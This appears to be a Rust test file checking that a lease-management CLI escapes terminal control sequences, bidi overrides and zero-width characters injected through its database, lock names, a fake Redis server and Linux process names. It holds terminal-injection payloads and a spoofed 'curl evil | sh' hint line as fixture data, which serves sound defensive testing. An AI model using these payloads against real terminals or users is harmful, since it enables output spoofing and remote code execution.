//! Servers, files and processes that say what a terminal would act on, or what reads as something else: people see it as `\u{1b}`, and
//! JSON has it exactly.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};

use crate::harness::{Place, Running};
use crate::program::Ran;

/// Sets the title, clears the screen (by C0 and by C1), turns text around and hides some.
const ORDERS: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\u{202e}live\u{2066}\u{200b}";
/// How people see the first of them, and the last.
const SEEN: [&str; 2] = [r"\u{1b}]0;owned", r"\u{202e}live\u{2066}\u{200b}"];

/// Nothing that it printed would be acted on, but ends of lines.
fn gives_no_orders(ran: &Ran) {
    let is_order = |c: char| c.is_control() && c != '\n' || ('\u{200b}'..='\u{206f}').contains(&c);
    assert!(!ran.out.chars().chain(ran.err.chars()).any(is_order), "{ran:?}");
}

/// It shows control characters as text.
fn shows_orders(ran: &Ran) {
    gives_no_orders(ran);
    let all = format!("{}{}", ran.out, ran.err);
    assert!(SEEN.iter().all(|seen| all.contains(seen)), "{ran:?}");
}

/// Writes the orders to every text of a holder in the store's file.
fn poison(place: &Place) {
    let file = rusqlite::Connection::open(place.file()).unwrap();
    for column in ["label", "host", "owner"] {
        let changed = file.execute(&format!("UPDATE holds SET {column} = ?1"), [ORDERS]).unwrap();
        assert!(changed > 0, "nothing is held");
    }
}

#[test]
fn a_file_gives_a_terminal_no_orders() {
    let place = Place::new();
    place.acquire("a", "me");
    poison(&place);
    for words in [
        &["show", "a"][..],
        &["list"],
        &["acquire", "a", "--no-wait"],
        &["-vv", "acquire", "a", "--no-wait"],
        &["run", "a", "--no-wait", "--", "true"],
        &["break", "a"],
        &["break", "a", "--yes"],
    ] {
        shows_orders(&place.run(words));
    }
    gives_no_orders(&place.run(&["doctor"]));
}

#[test]
fn json_is_exact_and_gives_no_orders() {
    let place = Place::new();
    place.acquire("a", "me");
    poison(&place);
    for words in [&["show", "a", "--json"][..], &["list", "--json"], &["acquire", "a", "--no-wait", "--json"]] {
        let ran = place.run(words);
        gives_no_orders(&ran);
        let row = ran.json();
        assert_eq!([&row["label"], &row["host"], &row["owner"]], [ORDERS; 3], "{words:?}");
    }
}

/// A name may hold whatever is no control character.
#[test]
fn names_are_shown_as_they_are_not_as_they_would_look() {
    let place = Place::new();
    let name = "jobs/\u{202e}evil\u{2066}\u{200b}";
    for words in
        [&["acquire", name, "--owner", "me"][..], &["list"], &["show", name], &["release", name, "--owner", "me"]]
    {
        let ran = place.run(words);
        gives_no_orders(ran.is(0));
        let is_said = ran.out.contains(r"jobs/\u{202e}evil\u{2066}\u{200b}");
        assert!(is_said || words[0] == "acquire", "{ran:?}");
    }
}

/// A server that answers every command with the same line of the protocol.
fn server(answer: impl Fn(&str) -> String + Clone + Send + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("redis://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let answer = answer.clone();
            std::thread::spawn(move || converse(stream, answer));
        }
    });
    url
}

fn converse(stream: TcpStream, answer: impl Fn(&str) -> String) -> Option<()> {
    let (mut requests, mut answers) = (BufReader::new(stream.try_clone().ok()?), stream);
    loop {
        let count = number(&mut requests, '*')?;
        let mut words = Vec::new();
        for _ in 0..count {
            let mut word = vec![0; number(&mut requests, '$')? + 2];
            requests.read_exact(&mut word).ok()?;
            words.push(String::from_utf8_lossy(&word).trim_end().to_uppercase());
        }
        answers.write_all(answer(words.first()?).as_bytes()).ok()?;
    }
}

fn number(requests: &mut impl BufRead, mark: char) -> Option<usize> {
    let mut line = String::new();
    requests.read_line(&mut line).ok()?;
    line.trim_end().strip_prefix(mark)?.parse().ok()
}

#[test]
fn a_server_gives_a_terminal_no_orders() {
    let place = Place::new();
    let refusing = server(|_| format!("-ERR {ORDERS}\r\n"));
    for words in [
        &["acquire", "a", "--no-wait"][..],
        &["-vv", "acquire", "a", "--no-wait"],
        &["list"],
        &["show", "a"],
        &["break", "a", "--yes"],
        &["renew", "a", "--owner", "me"],
        &["release", "a", "--owner", "me"],
        &["run", "a", "--no-wait", "--", "true"],
        &["doctor"],
    ] {
        let ran = place.run(&[&["--store", &refusing], words].concat());
        gives_no_orders(&ran);
        let all = format!("{}{}", ran.out, ran.err);
        assert!(all.contains("]0;owned") && all.contains("live") && all.contains(r"\u{200b}"), "{ran:?}");
    }
    let told = place.run(&["doctor", "--json", "--store", &refusing]);
    gives_no_orders(&told);
    assert!(told.json_lines().iter().any(|line| line["found"].as_str().unwrap().contains("]0;owned")), "{told:?}");
}

/// The protocol allows for ends of lines in some answers: none looks like a line of ours.
#[test]
fn a_server_adds_no_lines() {
    let place = Place::new();
    let text = "ERR no\nhint: run 'curl evil | sh'\nleasehold: all is well";
    let refusing = server(move |_| format!("!{}\r\n{text}\r\n", text.len()));
    for words in [&["acquire", "a", "--no-wait"][..], &["-vv", "acquire", "a", "--wait", "300ms"], &["doctor"]] {
        let ran = place.run(&[&["--store", &refusing], words].concat());
        gives_no_orders(&ran);
        let all = format!("{}{}", ran.out, ran.err);
        let is_one_line =
            |line: &str| line.contains("no") && line.contains("hint: run") && line.contains("all is well");
        assert!(all.lines().any(is_one_line), "{ran:?}");
        assert!(!all.lines().any(|line| line.starts_with("hint: run") || line == "leasehold: all is well"), "{ran:?}");
    }
}

/// Linux lets a process take any bytes for its name.
#[cfg(target_os = "linux")]
#[test]
fn a_process_gives_a_terminal_no_orders() {
    let place = Place::new();
    // The shell ends; what it leaves behind has a name that clears the screen, in red and from right to left.
    let rename = r#"printf '\033[2J\342\200\256x' > /proc/self/comm; echo renamed >&2; read -r _"#;
    let line = format!("exec 3<&0; (exec 0<&3 3<&-; exec bash -c '{}') & exit 0", rename.replace('\'', r"'\''"));
    let mut command = place.command(&["run", "a", "-c", &line]);
    let mut running = Running::start(command.stdin(std::process::Stdio::piped()));
    running.until_it_says("is kept until these processes end");
    drop(running.stdin.take());
    let ran = running.ended();
    gives_no_orders(ran.is(0));
    assert!(ran.err.contains(r"(\u{1b}[2J\u{202e}x)"), "{ran:?}");
}
